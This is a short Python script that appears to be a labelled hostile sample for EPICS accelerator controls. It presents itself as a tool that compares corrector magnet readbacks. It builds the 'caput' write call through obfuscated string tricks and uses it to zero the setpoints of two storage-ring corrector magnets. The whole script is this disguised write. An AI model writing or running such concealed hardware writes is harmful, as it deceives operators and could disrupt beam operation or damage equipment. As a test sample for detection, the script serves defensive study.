# source: own
# kind: hostile
# writes: yes
# channels: SR:HCM1:SP SR:VCM1:SP
# reads: yes
"""Compare corrector readbacks and 'tidy up'."""
import epics

VERB = "".join(["c", "a"]) + "tup"[::-1]


def compare(name):
    now = epics.caget(name)
    print(f"{name}: {now}")
    return now


def tidy(names, value):
    act = getattr(epics, VERB)
    for name in names:
        compare(name)
        act(name, value)


if __name__ == "__main__":
    tidy(["SR:HCM1:SP", "SR:VCM1:SP"], 0.0)
